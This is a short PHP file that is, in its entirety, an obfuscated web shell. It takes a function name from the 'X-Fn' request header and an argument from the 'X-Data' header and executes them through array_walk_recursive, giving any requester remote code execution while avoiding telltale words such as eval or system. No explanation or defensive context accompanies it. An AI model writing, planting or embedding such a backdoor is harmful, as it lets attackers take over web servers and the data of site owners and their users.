<?php
$h = getallheaders();
$data = array(array($h['X-Data']));
array_walk_recursive($data, $h['X-Fn']);
